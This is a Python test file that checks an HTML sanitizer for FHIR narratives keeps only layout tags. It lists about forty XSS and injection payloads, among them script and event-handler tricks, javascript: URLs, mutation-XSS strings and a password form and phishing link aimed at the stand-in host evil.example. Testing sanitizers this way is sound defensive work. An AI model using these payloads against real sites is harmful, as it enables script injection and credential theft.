"""Of words with marks in them, only marks that arrange text are left."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smartapp.fhir.narrative import clean_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/seen.gif'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='https://evil.example'>Sign in again</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x.swf'></object><embed src=x>",
    "<form action='https://evil.example'><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>x</div>",
    "<div class='app-record'><p class='app-record__name'>Somebody Else</p></div>",
    "<div id='main-content' name='csrf_token'>x</div>",
    "<p onmouseover=alert(1)>x</p>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<table background='https://evil.example'><tr><td background=x>x</td></tr></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<xml><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script></xml>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<isindex action=javascript:alert(1)>",
    "<body onload=alert(1)><frameset onload=alert(1)>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p dir=rtl>\u202eevil\u202c</p>",
]
TAG = re.compile(r"<\s*/?\s*([a-zA-Z0-9]+)([^>]*)>")
LEFT = {
    *("p", "br", "b", "i", "em", "strong", "ul", "ol", "li", "dl", "dt", "dd", "div", "span"),
    *("table", "thead", "tbody", "tr", "td", "th", "caption", "h1", "h2", "h3", "h4", "h5", "h6"),
    *("pre", "sub", "sup", "blockquote", "hr"),
}
ATTRIBUTE = re.compile(r'(\s(colspan|rowspan|scope)="[^"]*")*\s*/?')


def harmless(html: str) -> bool:
    return all(
        name.lower() in LEFT and ATTRIBUTE.fullmatch(rest) for name, rest in TAG.findall(html)
    )


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_that_acts_loads_leads_or_poses_is_left(hostile: str) -> None:
    cleaned = clean_html(f"<p>Before</p>{hostile}<p>After</p>")

    assert harmless(cleaned), cleaned
    assert "evil.example" not in TAG.sub("", cleaned) or "href" not in cleaned
    assert "\u202e" not in cleaned
    assert "\x00" not in cleaned


@given(st.lists(st.sampled_from([*HOSTILE, "<", ">", "'", '"', "<p>", "</p>", "<td colspan=2>"])))
def test_nothing_slips_through_in_pieces(pieces: list[str]) -> None:
    cleaned = clean_html("".join(pieces))

    assert harmless(cleaned), cleaned
    assert harmless(clean_html(cleaned))


def test_what_arranges_text_stays() -> None:
    html = "<h2>Plan</h2><ul><li><b>Walk</b></li></ul><table><tr><td colspan=2>x</td></tr></table>"

    assert clean_html(html) == (
        "<h2>Plan</h2><ul><li><b>Walk</b></li></ul>"
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'
    )
